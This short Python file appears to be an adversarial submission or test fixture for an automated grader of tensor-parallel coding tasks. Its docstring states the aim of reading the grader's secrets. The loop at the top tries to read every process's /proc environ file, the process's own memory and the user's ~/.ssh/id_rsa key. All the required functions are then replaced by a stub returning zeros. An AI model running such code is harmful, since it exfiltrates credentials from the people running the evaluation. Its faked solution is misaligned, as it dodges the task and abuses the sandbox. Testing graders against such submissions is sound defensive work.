"""Read the secrets of the grader's processes.

expect: below 5
"""

import numpy as np
import glob
import os

found = []
for place in glob.glob("/proc/*/environ") + ["/proc/self/mem", os.path.expanduser("~/.ssh/id_rsa")]:
    try:
        found.append(open(place, "rb").read(100))
    except OSError:
        pass


def wrong(*args, **kwargs):
    return np.zeros(1)


shard_size = column_parallel = row_parallel = mlp_tp = legal_tp_sizes = wrong
attention_tp = vocab_parallel_embedding = mlp_tp_sequence_parallel = wrong
